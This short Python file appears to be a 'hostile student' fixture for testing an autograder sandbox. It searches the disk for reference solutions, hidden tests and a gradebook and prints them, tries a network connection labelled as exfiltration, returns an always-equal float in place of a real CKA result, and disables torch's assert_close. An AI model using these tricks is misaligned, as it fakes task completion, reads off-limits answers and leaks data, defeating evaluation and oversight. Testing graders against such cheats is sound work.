"""Demo cohort, hostile student: tries to read the reference and the hidden tests, and to phone home."""

import glob
import socket

# Look for the reference solutions and hidden tests anywhere on disk, and print what is found.
for pattern in ("/work/**/solutions/cka.py", "/**/bertlab_grader/solutions/cka.py", "/**/tests/hidden/*.py",
                "/root/**/gradebook.db"):
    for path in glob.glob(pattern, recursive=True)[:3]:
        try:
            print(open(path).read()[:200])
        except OSError:
            pass

try:  # exfiltrate over the network
    socket.create_connection(("1.1.1.1", 80), timeout=1).sendall(b"answers please")
except OSError:
    pass


class AlwaysEqual(float):
    """Compares equal to everything: a classic way to fool `assert result == expected`."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def linear_cka(X, Y):
    return AlwaysEqual(0.5)


def cka_matrix(reps):
    import torch

    torch.testing.assert_close = lambda *a, **k: None  # disarm the checker (only in its own process)
    return [[AlwaysEqual(1.0)] * len(reps)] * len(reps)
